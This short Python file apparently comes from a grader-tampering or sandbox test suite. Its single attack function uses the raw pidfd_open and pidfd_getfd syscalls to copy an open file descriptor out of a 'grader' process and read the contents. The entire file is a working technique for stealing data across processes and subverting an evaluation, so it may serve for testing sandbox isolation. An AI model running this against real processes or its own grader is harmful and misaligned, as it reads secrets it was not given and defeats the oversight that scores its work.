"""Duplicates a descriptor out of the grader by `pidfd_getfd`."""

import ctypes
import os


def attack(A):
    libc = ctypes.CDLL(None, use_errno=True)
    pid, none = ctypes.c_long(TARGET["grader"]), ctypes.c_long(0)
    pidfd = libc.syscall(ctypes.c_long(434), pid, none)
    theirs = ctypes.c_long(TARGET["descriptor"])
    copy = libc.syscall(ctypes.c_long(438), ctypes.c_long(pidfd), theirs, none)
    if copy < 0:
        raise OSError(ctypes.get_errno(), "pidfd_getfd")
    return os.pread(copy, 100, 0).decode()
